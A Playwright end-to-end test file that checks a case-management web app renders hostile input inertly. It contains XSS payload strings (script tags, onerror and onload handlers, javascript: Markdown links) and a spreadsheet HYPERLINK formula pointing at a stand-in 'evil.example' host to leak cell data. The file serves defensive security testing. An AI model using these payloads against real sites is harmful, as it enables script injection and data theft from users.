// Hostile text through the UI: attacker-written prompts and responses imported from a file, and XSS
// typed into the forms people fill, then every page that shows them. No script may run: a dialog
// (alert, confirm, prompt) fails the test here, and e2e/test.ts fails it on any page error or
// console error.
import path from "node:path";
import type { Page } from "@playwright/test";
import { expect, test } from "./test";
import { signIn, USERS } from "./helpers";

const XSS = `<script>window.__pwned=1;alert(1)</script><img src=x onerror="window.__pwned=2;alert(2)"><svg onload=alert(3)>`;
const MD_XSS = `[click me](javascript:alert(8)) <img src=x onerror=alert(9)> ![x](javascript:alert(10))`;
const IMPORT_TIMEOUT = 30_000;

function refuseDialogs(page: Page, seen: string[]) {
  page.on("dialog", (d) => {
    seen.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
}

async function expectNothingRan(page: Page, dialogs: string[]) {
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  await expect(page.locator("main img[src='x'], main svg[onload], main iframe")).toHaveCount(0);
  expect(dialogs).toEqual([]);
}

async function importFile(page: Page, file: string, done: string) {
  await page.getByLabel("File to import").setInputFiles(path.resolve("e2e", "fixtures", file));
  await expect(page.getByRole("progressbar", { name: "Import progress" })).toHaveAttribute("aria-valuenow", "100", { timeout: IMPORT_TIMEOUT });
  await expect(page.getByText(done)).toBeVisible({ timeout: IMPORT_TIMEOUT });
}

test("hostile text imported and typed into the forms is shown as text on every page, and no script runs", async ({ page }) => {
  test.setTimeout(180_000);
  const dialogs: string[] = [];
  refuseDialogs(page, dialogs);
  await signIn(page, USERS.analyst);

  // A case whose title, summary and suspected actor are XSS.
  const title = `Hostile ${Date.now()} ${XSS}`.slice(0, 190);
  await page.getByRole("link", { name: "New case" }).click();
  await page.getByLabel("Title").fill(title);
  await page.getByLabel("Summary").fill(`${XSS} =HYPERLINK("http://evil")`);
  await page.getByLabel("Suspected actor").fill(XSS.slice(0, 100));
  await page.getByRole("button", { name: "Create case" }).click();
  await expect(page.getByRole("heading", { name: title })).toBeVisible();
  const caseUrl = page.url();
  await expectNothingRan(page, dialogs);

  // A comment, shown on the overview.
  await page.getByLabel("Add a comment").fill(`${XSS} ${MD_XSS}`);
  await page.getByRole("button", { name: "Post comment" }).click();
  await expect(page.getByText(MD_XSS, { exact: false }).first()).toBeVisible();
  await expectNothingRan(page, dialogs);

  // Attacker-written prompts: XSS, spreadsheet formulas, bidi overrides, a 100 KB prompt.
  await page.getByRole("link", { name: "Accounts", exact: true }).click();
  await expect(page.getByRole("heading", { name: "Import accounts" })).toBeVisible();
  await importFile(page, "accounts.sample.csv", "Imported 8 accounts, 2 new clusters");
  await page.getByRole("link", { name: "Exchanges", exact: true }).click();
  await expect(page.getByRole("heading", { name: "Import exchanges" })).toBeVisible();
  await importFile(page, "exchanges-hostile-corpus.jsonl", "Imported 4 exchanges (4 samples)");
  for (const id of ["hx_0001", "hx_0002", "hx_0003", "hx_0004"]) {
    await page.getByRole("button", { name: `View exchange ${id}` }).click();
    const dialog = page.getByRole("dialog", { name: `Exchange ${id}` });
    await expect(dialog.locator("pre").first()).toBeVisible();
    await expect(dialog.locator("script, img, iframe, svg[onload], style")).toHaveCount(0);
    if (id === "hx_0001") await expect(dialog.locator("pre").first()).toContainText("<script>window.__pwned=1;alert(1)</script>");
    if (id === "hx_0002") await expect(dialog.locator("pre").first()).toHaveText(`=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    await page.keyboard.press("Escape");
    await expect(dialog).toHaveCount(0);
  }
  await expectNothingRan(page, dialogs);

  // Findings Markdown: links to javascript: and raw HTML stay inert in the preview.
  await page.getByRole("link", { name: "Findings", exact: true }).click();
  const summary = page.getByRole("region", { name: "Summary" });
  await summary.getByLabel("Markdown").fill(`${XSS}\n\n${MD_XSS}`);
  const preview = summary.getByLabel("Preview of Summary");
  await expect(preview).toContainText("click me");
  await expect(preview.locator("a[href^='javascript' i], img, script, svg, iframe")).toHaveCount(0);
  await summary.getByRole("button", { name: "Save section" }).click();
  await expect(summary.getByText(/^Saved by /)).toBeVisible();
  await page.reload();
  await expect(page.getByRole("region", { name: "Summary" }).getByLabel("Preview of Summary")).toContainText("click me");
  await expectNothingRan(page, dialogs);

  // Every other page that shows them.
  const pages = ["", "/activity", "/exchanges", "/triage?queue=all"];
  for (const sub of pages) {
    await page.goto(caseUrl + sub);
    await expect(page.getByRole("heading", { name: title })).toBeVisible();
    await expectNothingRan(page, dialogs);
  }
  await page.goto("/cases");
  await page.getByLabel("Search").fill("Hostile");
  await expect(page.getByRole("cell", { name: title })).toBeVisible();
  await expectNothingRan(page, dialogs);
  await page.goto(caseUrl);
  await expect(page.getByText(`${XSS} =HYPERLINK("http://evil")`)).toBeVisible();
  await expectNothingRan(page, dialogs);
});

test("an admin's XSS capability name and description stay text in the taxonomy", async ({ page }) => {
  const dialogs: string[] = [];
  refuseDialogs(page, dialogs);
  await signIn(page, USERS.admin);
  await page.goto("/admin/capabilities");
  const key = `xss-${Date.now()}`;
  const form = page.getByRole("form", { name: "New capability" });
  await form.getByLabel("Key").fill(key);
  await form.getByLabel("Name").fill(`<img src=x onerror=alert(11)> ${key}`);
  await form.getByLabel("Description").fill(XSS);
  await form.getByRole("button", { name: "Add capability" }).click();
  await expect(page.getByText(key, { exact: true })).toBeVisible();
  await expectNothingRan(page, dialogs);
  await page.reload();
  await expect(page.getByRole("form", { name: `Capability ${key}` }).getByLabel("Name")).toHaveValue(`<img src=x onerror=alert(11)> ${key}`);
  await expectNothingRan(page, dialogs);
});
